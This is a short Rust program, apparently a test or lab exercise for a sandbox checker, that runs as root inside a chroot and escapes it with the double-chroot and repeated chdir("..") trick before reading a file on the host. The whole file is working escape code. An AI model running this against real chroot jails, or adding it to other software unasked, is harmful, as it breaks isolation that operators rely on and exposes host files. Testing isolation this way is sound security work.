//! break-out FILE
//!
//! Begins as root in a chroot. Reads FILE, which is on the host.

use std::fs::read_to_string;

use anyhow::Context;
use nix::sys::stat::Mode;
use nix::unistd::{chdir, chroot, mkdir};

fn main() -> anyhow::Result<()> {
    let file = std::env::args().nth(1).context("FILE is missing")?;

    chdir("/").context("chdir")?;
    mkdir("below", Mode::S_IRWXU).context("mkdir")?;
    // The root moves below us. We stay where we are: outside.
    chroot("below").context("chroot below")?;
    for _ in 0..100 {
        chdir("..").context("chdir up")?;
    }
    chroot(".").context("chroot here")?;

    match read_to_string(&file) {
        Ok(text) => println!("{file}: {text}"),
        Err(error) => eprintln!("{file}: {error}"),
    }
    // The checker looks where we are now.
    std::io::stdin().read_line(&mut String::new())?;
    Ok(())
}
